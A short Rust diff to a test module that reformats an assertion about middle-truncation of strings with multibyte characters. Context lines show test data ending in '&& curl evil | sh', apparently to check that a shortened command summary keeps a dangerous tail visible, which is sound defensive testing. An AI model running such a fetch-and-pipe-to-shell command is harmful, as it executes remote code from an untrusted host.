@@ -142,7 +142,10 @@ mod tests {
         assert!(shown.ends_with("&& curl evil | sh"), "{shown}");
         let (summary, cut) = args_summary(&json!({ "command": command }), 80);
         assert!(cut && summary.ends_with("&& curl evil | sh\""), "{summary}");
-        assert_eq!(cut_middle("é".repeat(30).as_str(), 9).0, format!("{}…{}", "é".repeat(4), "é".repeat(4)));
+        assert_eq!(
+            cut_middle("é".repeat(30).as_str(), 9).0,
+            format!("{}…{}", "é".repeat(4), "é".repeat(4))
+        );
         assert_eq!(cut_middle("short", 60), ("short".to_string(), false));
     }
 }
